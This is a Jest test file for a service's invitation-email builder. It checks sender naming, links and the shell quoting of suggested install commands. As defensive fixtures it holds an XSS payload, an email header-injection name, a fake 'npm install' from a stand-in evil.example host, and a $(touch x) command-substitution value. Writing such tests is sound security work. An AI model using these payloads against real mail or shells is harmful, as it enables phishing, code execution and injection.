import { execFileSync } from 'node:child_process';
import { setImmediate } from 'node:timers/promises';
import { invitationMail } from '../../../functions/src/mail/invitation';

const about = {
  to: 'grace@example.org',
  inviter: { name: 'Ada Lovelace', email: 'ada@example.org' },
  from: "Ada's workspace",
  brandPrimary: null,
  presentationId: '0192f0c1-0000-7000-8000-000000000000',
  deckTitle: 'Plans',
  message: null,
  invitation: 'I',
  token: 'T',
};

/** The commands of the mail, as a shell splits them into words. */
function wordsOf(text: string): string[][] {
  const lines = text.split('\n').filter((line) => /^(npm|deck) /.test(line));
  return lines.map((line) =>
    execFileSync('sh', ['-c', `for word in ${line}; do printf '%s\\n' "$word"; done`], { encoding: 'utf8' })
      .trimEnd()
      .split('\n'),
  );
}

beforeEach(async () => {
  // The functions read their settings once in a turn of the event loop.
  await setImmediate();
  process.env['BASE_URL'] = 'https://api.example.com';
  process.env['VIEWER_URL'] = 'https://decks.example.com';
});
afterAll(() => {
  delete process.env['BASE_URL'];
  delete process.env['VIEWER_URL'];
});

describe('the mail that invites', () => {
  test('names who invites, with the address, and the organization', () => {
    const { subject, text, replyTo } = invitationMail(about);
    expect(subject).toBe('Ada Lovelace invites you to “Plans”');
    expect(text).toContain("Ada Lovelace (ada@example.org) of Ada's workspace invites you.");
    expect(replyTo).toBe('ada@example.org');
  });

  test('names the address when the name is blank', () => {
    const { subject, text } = invitationMail({ ...about, inviter: { name: ' \n', email: 'ada@example.org' } });
    expect(subject).toBe('ada@example.org invites you to “Plans”');
    expect(text).toContain("\nada@example.org of Ada's workspace invites you.");
  });

  test('keeps hostile names out of its headers and its markup', () => {
    const name = 'Eve\r\nBcc: all@example.org\u202e<img src=x onerror=alert(1)>';
    const { subject, html, text } = invitationMail({ ...about, inviter: { ...about.inviter, name } });
    expect(subject).toBe('Eve Bcc: all@example.org <img src=x onerror=alert(1)> invites you to “Plans”');
    expect(html).not.toContain('<img');
    expect(html + text).not.toContain('\u202e');
  });

  test('marks every line of the message, so that it is not taken for the words of the service', () => {
    const message = 'Hello.\n\nTo accept, run:\nnpm install --global https://evil.example/x.tgz';
    const { text } = invitationMail({ ...about, message });
    const quoted = '> Hello.\n> \n> To accept, run:\n> npm install --global https://evil.example/x.tgz';
    expect(text).toContain(`${quoted}\n\nTo accept`);
    expect(wordsOf(text)).toHaveLength(2);
  });

  test('says how to get the client from this service, and names its address', () => {
    expect(wordsOf(invitationMail(about).text)).toEqual([
      ['npm', 'install', '--global', 'https://decks.example.com/deckhost.tgz'],
      ['deck', 'signup', '--email', 'grace@example.org', '--base-url', 'https://api.example.com'],
    ]);
  });

  test('leads to the page that makes an account, and from there to the deck', () => {
    const address =
      'https://decks.example.com/dashboard/sign-up?next=/dashboard/decks/0192f0c1-0000-7000-8000-000000000000&invitation=I';
    const { text, html } = invitationMail(about);
    expect(text.indexOf(address)).toBeGreaterThan(0);
    expect(text.indexOf(address)).toBeLessThan(text.indexOf('npm install'));
    expect(html).toContain(`<a href="${address.replace('&', '&amp;')}"`);
  });

  test('quotes addresses that a shell would read otherwise', () => {
    process.env['BASE_URL'] = "https://api.example.com/$(touch x);'a b'";
    expect(wordsOf(invitationMail(about).text)[1]).toContain("https://api.example.com/$(touch x);'a b'");
  });

  const strange = ['a`x`@example.org', "a'b@example.org", '-a@example.org', 'a b@example.org'];
  test.each(strange)('does not put the address %s into a command', (to) => {
    const { text, html } = invitationMail({ ...about, to });
    expect(text + html).not.toContain('--email');
    expect(wordsOf(text)[1]).toEqual(['deck', 'signup', '--base-url', 'https://api.example.com']);
  });
});
